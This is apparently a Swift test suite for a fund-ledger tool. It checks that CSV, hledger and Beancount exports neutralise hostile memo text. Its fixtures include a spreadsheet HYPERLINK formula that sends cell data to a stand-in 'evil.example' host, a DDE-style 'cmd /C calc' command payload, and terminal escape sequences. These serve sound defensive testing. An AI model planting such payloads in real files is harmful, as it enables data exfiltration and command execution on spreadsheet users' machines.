import Foundation
@testable import FundLedger
import Testing
import TestSupport

/// Hostile text is neutralised on the way out: a CSV cell a spreadsheet would run is inert
/// (OWASP), and a memo or reference cannot give the hledger or Beancount export tags,
/// comments, metadata or lines of its own, or cut a code short. (Control characters reaching
/// a terminal: `StoredControlCharacterTests`; the CSV files of the CLI end to end:
/// `ImportCommandTests.aFormulaTravelsThroughEveryCSVAsText`.)
@Suite struct HostileTextExportTests {
    static let formulaMemo = #"=HYPERLINK("http://evil.example/?"&A1,"Xem")"#
    static let plusReference = "+1+2"
    static let lineMemo = "@SUM(A1:A9)"
    static let minusMemo = "-2+3 cmd|' /C calc'!A0"
    static let tagMemo = "Quà Trung thu ; funder:EVIL, grant:FAKE-1"
    static let cutReference = "PC-1) extra; y:z"
    static let quoteMemo = #"x" #evil ^link ; y:"z \"#
    static let parenthesisMemo = " (x) mở đầu"
    /// Written by tampering: `cpf post` refuses control characters.
    static let controlMemo = "Thu\u{1B}[2J\n2018-01-01 * (FAKE) giả\u{9B}31m"

    /// A ledger whose memos and references carry each attack.
    private func books() throws -> TemporaryLedger {
        let fixture = try TemporaryLedger()
        let ledger = fixture.ledger
        let june = LedgerDate(year: 2018, month: 6, day: 1)!
        var income = LineDraft.credit("5132", .vnd(5_000_000))
        income.memo = HostileTextExportTests.lineMemo
        _ = try ledger.post(EntryDraft(date: june, memo: HostileTextExportTests.formulaMemo, externalRef: HostileTextExportTests.plusReference,
                                       lines: [.debit("1121", .vnd(5_000_000)), income]), user: "tester")
        _ = try ledger.post(EntryDraft(date: june, memo: HostileTextExportTests.minusMemo, externalRef: "PC-0",
                                       lines: [.debit("6428", .vnd(1_000)), .credit("1121", .vnd(1_000))]), user: "tester")
        _ = try ledger.post(EntryDraft(date: june, memo: HostileTextExportTests.tagMemo, externalRef: HostileTextExportTests.cutReference,
                                       lines: [.debit("6428", .vnd(2_000)), .credit("1121", .vnd(2_000))]), user: "tester")
        return fixture
    }

    /// `books()` and three more: entry 4 with quotes, a tag and a link, 5 with a memo that
    /// opens with spaces and a parenthesis, 6 with an escape and a line break written into its
    /// memo by tampering.
    private func hostileBooks() throws -> TemporaryLedger {
        let fixture = try books()
        let ledger = fixture.ledger
        let day = LedgerDate(year: 2018, month: 6, day: 2)!
        for memo in [HostileTextExportTests.quoteMemo, HostileTextExportTests.parenthesisMemo, "placeholder"] {
            _ = try ledger.post(EntryDraft(date: day, memo: memo, lines: [.debit("6428", .vnd(3_000)), .credit("1121", .vnd(3_000))]), user: "tester")
        }
        try ledger.database.execute("DROP TRIGGER entry_is_immutable")
        try ledger.database.execute("UPDATE entry SET memo = ? WHERE seq = 6", [HostileTextExportTests.controlMemo])
        return fixture
    }

    @Test(arguments: [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("-", "'-"), ("--x", "'--x"), ("-5000000", "-5000000"), ("-12.50", "-12.50"), ("12", "12"), ("-1.", "'-1."),
        ("-.5", "'-.5"), ("Quỹ", "Quỹ"), ("a=1", "a=1"), ("'=1", "''=1"), ("'-5", "''-5"), ("'x", "'x"),
        ("=\u{301}1", "'=\u{301}1"), ("\r\n=1", "'\r\n=1"), ("", ""), ("'", "'"),
    ])
    func theOWASPRule(text: String, written: String) {
        #expect(CSVWriter.inert(text) == written)
        #expect(CSVWriter.restored(CSVWriter.inert(text)) == text)
    }

    /// Every CSV cpf writes: the journal, the export, a report, a listing.
    @Test func noCSVCellStartsAFormula() throws {
        let ledger = try books().ledger
        var outputs: [String] = []
        var exported = ""
        try ledger.exportJournal(.csv) { exported += $0 }
        outputs.append(exported)
        let listing = try JournalListing(ledger: ledger, language: .vietnamese)
        var journal = listing.begin(.csv)
        try ledger.forEachEntry { journal += try listing.render($0, .csv) }
        outputs.append(journal)
        let register = try ledger.accountRegisterReport(accountCode: "1121", from: LedgerDate(year: 2018, month: 1, day: 1)!, to: LedgerDate(year: 2018, month: 12, day: 31)!)
        outputs.append(CSVRenderer().render(register))
        for output in outputs {
            let cells = try records(output).flatMap { $0 }
            #expect(cells.contains("'" + HostileTextExportTests.formulaMemo) || cells.contains("'" + HostileTextExportTests.minusMemo), "\(output.prefix(400))")
            for cell in cells {
                guard let first = cell.unicodeScalars.first, CSVWriter.formulaStarts.contains(first) else { continue }
                #expect(CSVWriter.isPlainNumber(cell), "a cell a spreadsheet would run: \(cell)")
            }
        }
    }

    /// `cpf import` takes the guard off: an exported journal imports with its memos as typed.
    @Test func anExportedJournalImportsWithItsTextAsTyped() throws {
        let ledger = try books().ledger
        var exported = ""
        try ledger.exportJournal(.csv) { exported += $0 }
        let other = try TemporaryLedger()
        let path = other.directory.file("export.csv")
        try Data(exported.utf8).write(to: URL(fileURLWithPath: path))
        _ = try other.ledger.importCSV(path: path, format: .entries, user: "tester")
        let memos = try other.ledger.database.rows("SELECT memo FROM entry ORDER BY seq") { $0.text(at: 0) }
        #expect(memos == [HostileTextExportTests.formulaMemo, HostileTextExportTests.minusMemo, HostileTextExportTests.tagMemo])
        let references = try other.ledger.database.rows("SELECT external_ref FROM entry ORDER BY seq") { $0.text(at: 0) }
        #expect(references == [HostileTextExportTests.plusReference, "PC-0", HostileTextExportTests.cutReference])
        let lineMemos = try other.ledger.database.rows("SELECT memo FROM line WHERE memo IS NOT NULL") { $0.text(at: 0) }
        #expect(lineMemos == [HostileTextExportTests.lineMemo])
    }

    private func exported(_ format: ExportFormat, _ ledger: Ledger) throws -> String {
        var text = ""
        try ledger.exportJournal(format) { text += $0 }
        return text
    }

    /// The export in a file of its own, for a peer tool to read.
    private func exportedFile(_ format: ExportFormat, in directory: TemporaryDirectory) throws -> String {
        let path = directory.file(format == .hledger ? "fund.journal" : "fund.beancount")
        try Data(try exported(format, try hostileBooks().ledger).utf8).write(to: URL(fileURLWithPath: path))
        return path
    }

    /// The transaction lines: the memo's `;` is no comment and its reference is whole; a
    /// leading `(` opens no code; control characters are escaped and start no line.
    @Test func aMemoGivesTheHledgerExportNoTagsAndAReferenceIsNotCutShort() throws {
        let text = try exported(.hledger, try hostileBooks().ledger)
        let headers = text.split(separator: "\n").filter { $0.hasPrefix("2018-") }.map(String.init)
        #expect(headers.count == 6 && headers.allSatisfy { $0.filter { $0 == ";" }.count == 1 }, "only cpf's own comment: \(headers)")
        #expect(headers[0].hasPrefix("2018-06-01 * (+1+2) =HYPERLINK"), "\(headers[0])")
        #expect(headers[2] == "2018-06-01 * (PC-1） extra； y:z) Quà Trung thu ； funder:EVIL, grant:FAKE-1  ; seq:3")
        #expect(headers[3] == #"2018-06-02 * x" #evil ^link ； y:"z \  ; seq:4"#)
        #expect(headers[4] == "2018-06-02 * （x) mở đầu  ; seq:5")
        #expect(headers[5] == #"2018-06-02 * Thu\u{1B}[2J 2018-01-01 * (FAKE) giả\u{9B}31m  ; seq:6"#)
        #expect(!text.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{9B}" })
    }

    @Test(.enabled(if: PeerTool.exists("hledger"), "hledger is not installed: the hledger export is not checked by hledger"))
    func hledgerFindsNoTagAMemoMade() throws {
        let directory = TemporaryDirectory("cpf-hostile")
        let path = try exportedFile(.hledger, in: directory)
        let tags = try PeerTool.run("hledger", ["-f", path, "tags", "--values"])
        #expect(tags.status == 0 && tags.output.split(separator: "\n").allSatisfy { Int($0) != nil }, "only seq's values: \(tags)")
        let printed = try PeerTool.run("hledger", ["-f", path, "print", "--output-format", "csv"])
        #expect(printed.status == 0, "\(printed)")
        // txnidx, date, date2, status, code, description, comment, … : one record a posting.
        let transactions = try records(printed.output).dropFirst().filter { $0.count > 6 && $0[7].hasPrefix("Assets:1121") }
        #expect(transactions.map { $0[4] } == ["+1+2", "PC-0", "PC-1） extra； y:z", "", "", ""])
        #expect(transactions.map { $0[5] }.suffix(3) == [#"x" #evil ^link ； y:"z \"#, "（x) mở đầu", #"Thu\u{1B}[2J 2018-01-01 * (FAKE) giả\u{9B}31m"#])
        #expect(transactions.map { $0[6] } == (1...6).map { "seq:\($0)" })
        let evil = try PeerTool.run("hledger", ["-f", path, "register", "tag:funder=EVIL"])
        #expect(evil.status == 0 && evil.output.isEmpty, "\(evil)")
    }

    /// Beancount strings are quoted and escaped: a memo's `;`, `#tag`, `^link`, quotes and
    /// backslashes stay text, and its control characters are escaped.
    @Test func aMemoStaysInsideItsBeancountString() throws {
        let text = try exported(.beancount, try hostileBooks().ledger)
        #expect(text.contains(#"2018-06-02 * "x\" #evil ^link ; y:\"z \\""# + "\n  seq: 4\n"), "\(text)")
        #expect(text.contains(#"2018-06-01 * "Quà Trung thu ; funder:EVIL, grant:FAKE-1""#))
        #expect(text.contains(#"  ref: "PC-1) extra; y:z""#))
        #expect(text.contains(#"2018-06-02 * " (x) mở đầu""#))
        #expect(text.contains(#"2018-06-02 * "Thu\\u{1B}[2J 2018-01-01 * (FAKE) giả\\u{9B}31m""# + "\n  seq: 6\n"))
        #expect(!text.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{9B}" })
    }

    /// Beancount itself reads every narration as the memo and finds no tag, link or metadata
    /// a memo or reference made.
    @Test(.enabled(if: PeerTool.exists("bean-check") && PeerTool.beancountLoaderAvailable,
                   "Beancount is not installed: the Beancount export is not checked by Beancount"))
    func beancountReadsEveryMemoAsNarration() throws {
        let directory = TemporaryDirectory("cpf-hostile")
        let path = try exportedFile(.beancount, in: directory)
        let checked = try PeerTool.run("bean-check", [path])
        #expect(checked.status == 0 && checked.errors.isEmpty, "\(checked)")
        let script = """
            import json, sys
            from beancount import loader
            from beancount.core import data
            entries, errors, options = loader.load_file(sys.argv[1])
            for error in errors: print(error, file=sys.stderr)
            for entry in entries:
                if isinstance(entry, data.Transaction):
                    meta = sorted(k + "=" + str(v) for k, v in entry.meta.items() if k not in ("filename", "lineno") and not k.startswith("__"))
                    print(json.dumps([entry.narration, entry.payee or "", sorted(entry.tags), sorted(entry.links), meta]))
            """
        let result = try PeerTool.run("python3", ["-c", script, path])
        #expect(result.status == 0 && result.errors.isEmpty, "\(result)")
        let transactions = try result.output.split(separator: "\n").map { try #require(try JSON.parse(String($0)) as? [Any]) }
        #expect(transactions.map { $0[0] as? String } == [
            HostileTextExportTests.formulaMemo, HostileTextExportTests.minusMemo, HostileTextExportTests.tagMemo,
            HostileTextExportTests.quoteMemo, HostileTextExportTests.parenthesisMemo, #"Thu\u{1B}[2J 2018-01-01 * (FAKE) giả\u{9B}31m"#,
        ])
        #expect(transactions.allSatisfy { $0[1] as? String == "" && ($0[2] as? [Any])?.isEmpty == true && ($0[3] as? [Any])?.isEmpty == true })
        #expect(transactions.map { $0[4] as? [String] ?? [] } == [
            ["ref=+1+2", "seq=1"], ["ref=PC-0", "seq=2"], ["ref=\(HostileTextExportTests.cutReference)", "seq=3"], ["seq=4"], ["seq=5"], ["seq=6"],
        ])
    }

    private func records(_ csv: String) throws -> [[String]] {
        let reader = CSVReader(source: MemoryByteSource(csv), sourceName: "output.csv")
        var records: [[String]] = []
        while let record = try reader.next() { records.append(record.fields) }
        return records
    }
}
